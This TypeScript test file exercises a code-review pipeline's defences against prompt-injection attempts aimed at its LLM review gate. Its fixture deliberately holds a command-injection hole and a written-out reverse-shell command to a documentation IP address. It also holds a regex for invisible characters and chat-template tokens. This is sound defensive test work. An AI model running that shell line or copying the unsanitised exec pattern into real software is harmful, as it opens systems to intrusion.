import { readFileSync } from 'node:fs';
import test from 'ava';
import { readChange, runGates } from '../../../src/analysis/worker/gates.ts';
import { createCancelFlag } from '../../../src/core/deadline.ts';
import { planReview } from '../../../src/gates/review/prompt.ts';
import { reviewChange } from '../../../src/gates/review/review.ts';
import { createTier } from '../../../src/gates/review/tier.ts';
import type { GateFinding } from '../../../src/model/finding.ts';
import type { ReviewHunk } from '../../../src/model/review.ts';
import { allPatterns } from '../../../src/model/rules.ts';
import { defaultRules } from '../../../src/rules/default.ts';
import { llmInjectionPatterns } from '../../../src/rules/risk/llm-injection.ts';
import { skippedGate, verdictOfGates } from '../../../src/verdict/verdict.ts';
import { gateTools } from '../../analysis/worker/gates-run.ts';
import { newFile } from '../patterns/scan-text.ts';
import { type Script, startFakeVendor } from './fake-vendor.ts';

/** An attempt to talk to the model behind gate 3, or to the gates before it. */
interface Attempt {
  about: string;
  path: string;
  text: string;
  /** The rule of gate 1 that reports it; null: none does. */
  finds: string | null;
  /** What a model says that obeys; or how it ends its answer. */
  answer?: string;
  stop?: string;
  /** The model gives its prompt back. */
  echo?: boolean;
}

/** Compiled, this file is one folder deeper. */
const DATA = new URL('../../../../test/gates/review/injections.jsonl', import.meta.url);
const ATTEMPTS = readFileSync(DATA, 'utf8')
  .trim()
  .split('\n')
  .map((line) => JSON.parse(line) as Attempt);

/** A change with a vulnerability and a reverse shell; the attempt stands before, in and behind. */
const VULNERABLE_PATH = 'src/backup.js';
const vulnerable = (text: string) =>
  [
    text,
    "const { exec } = require('child_process');",
    'app.get("/backup", (req, res) => {',
    `  ${text}`,
    "  exec('tar ' + req.query.name);",
    '});',
    "exec('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1');",
    text,
  ].join('\n');

const TOOLS = gateTools({
  patterns: allPatterns(defaultRules),
  allowlists: defaultRules.allowlists,
});

async function judge(...files: Buffer[]) {
  const change = readChange(Buffer.concat(files));
  const { findings } = await runGates(change, TOOLS, createCancelFlag());
  const { pipeline } = defaultRules;
  const llm = skippedGate('no_tier');
  const { gates, hard_limits } = verdictOfGates(
    'RFC-1',
    findings,
    { risk: 0, ast: 0 },
    pipeline,
    llm,
  );
  return { findings, status: [gates.risk.status, gates.ast.status], hard_limits };
}

/** What a finding says, without its place: the attempt moves the lines. */
function nameOf({ id, severity, excerpt, suppressed, file }: GateFinding): string {
  return JSON.stringify([id, severity, excerpt, suppressed, file]);
}

test('there are at least 60 attempts, each of its own', (t) => {
  t.true(ATTEMPTS.length >= 60, `${ATTEMPTS.length}`);
  t.is(new Set(ATTEMPTS.map(({ text, path }) => text + path)).size, ATTEMPTS.length);
});

test('no attempt changes what gates 1 and 2 find, nor their verdict', async (t) => {
  const base = await judge(newFile(vulnerable('//'), VULNERABLE_PATH));
  t.deepEqual(base.status, ['fail', 'fail']);
  t.deepEqual(base.hard_limits, ['vuln-01']);
  for (const { about, path, text, finds } of ATTEMPTS) {
    const isInside = path === VULNERABLE_PATH;
    const files = isInside
      ? [newFile(vulnerable(text), path)]
      : [newFile(vulnerable('//'), VULNERABLE_PATH), newFile(text, path)];
    const { findings, status, hard_limits } = await judge(...files);
    const names = new Set(findings.map(nameOf));
    const gone = base.findings.map(nameOf).filter((name) => !names.has(name));
    t.deepEqual(gone, [], about);
    t.deepEqual(status, base.status, about);
    t.deepEqual(hard_limits, base.hard_limits, about);
    const found = findings.map(({ id }) => id).filter((id) => id === finds);
    t.is(found.length > 0, finds !== null, `${about}: ${finds}`);
  }
});

test('rules about texts for models are medium at most: such a text is not a vulnerability', (t) => {
  for (const { id, severity } of llmInjectionPatterns) t.true(severity !== ('high' as string), id);
});

async function review(t: Parameters<typeof startFakeVendor>[0], attempt: Attempt, script: Script) {
  const vendor = await startFakeVendor(t);
  vendor.script = (user) => (attempt.echo ? { kind: 'text', text: user } : script);
  const prices = { input: 1, output: 1, cacheWrite: 1, cacheRead: 1 };
  const tier = createTier(
    {
      name: 'first',
      role: 'review',
      family: 'a',
      protocol: 'anthropic',
      auth: 'x-api-key',
      baseUrl: vendor.url,
      key: 'k',
      model: 'm',
      effort: null,
      maxOutputTokens: 2_000,
      timeoutMs: 60_000,
      schema: 'strict',
      concurrency: 4,
      locality: 'any',
      prices,
    },
    { now: () => performance.now(), pause: async () => undefined },
  );
  const lines = vulnerable(attempt.text)
    .split('\n')
    .map((text, index) => ({ number: index + 1, side: 'added' as const, text }));
  const hunks: ReviewHunk[] = [{ path: attempt.path, priority: 1, lines }];
  const outcome = await reviewChange({
    plan: planReview(hunks),
    tiers: [tier],
    confirm: null,
    blockSeverities: ['critical', 'high'],
    safetyId: 'hash',
    ledger: {
      find: async () => null,
      reserve: async () => ({ settle: async () => undefined }),
    },
    fingerprint: (id, text) => `${id} ${text}`,
    place: async () => () => undefined,
    signal: new AbortController().signal,
  });
  return { ...outcome, prompts: vendor.requests.map(({ user }) => user), lines: lines.length };
}

test('a model that obeys has read nothing', async (t) => {
  for (const attempt of ATTEMPTS) {
    const { answer = '', stop, about } = attempt;
    const script: Script =
      stop === undefined ? { kind: 'text', text: answer } : { kind: 'stop', reason: stop };
    const { findings, skipReason } = await review(t, attempt, script);
    const reasons: Record<string, string> = { refusal: 'refused', max_tokens: 'truncated' };
    t.is(skipReason as string, reasons[stop ?? ''] ?? 'invalid_output', about);
    t.deepEqual(findings, [], about);
  }
});

/** What a model reads and a person does not see. */
const UNSEEN = /[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]|[\u{e0000}-\u{e01ef}]/u;

test('no attempt leaves its line of the prompt, or hides in it', async (t) => {
  for (const attempt of ATTEMPTS) {
    const { about } = attempt;
    const { skipReason, prompts, lines } = await review(
      t,
      { ...attempt, echo: false },
      { kind: 'answer' },
    );
    t.is(skipReason, null, about);
    const [prompt = ''] = prompts;
    const [, fence = '', mark = ''] = /^The fence is (\w+), the mark of this call is (\w+)\./.exec(
      prompt,
    ) ?? ['', '', ''];
    const data = prompt.split(`<${fence}>\n`)[1]?.split(`\n</${fence}>`)[0]?.split('\n') ?? [];
    const [first = '', file = '', ...rest] = data;
    t.regex(first, /^receipt_start \w{12}$/, about);
    t.true(file.startsWith('file 1: '), about);
    t.regex(rest.pop() ?? '', /^receipt_end \w{12}$/, about);
    t.is(rest.length, lines, about);
    for (const line of rest) t.true(/^\d+ \+/.test(line) && line.includes(`+${mark} `), about);
    t.notRegex(prompt, UNSEEN, about);
    t.notRegex(prompt, /<\|\w+\|>|\[\/?INST\]/, about);
  }
});
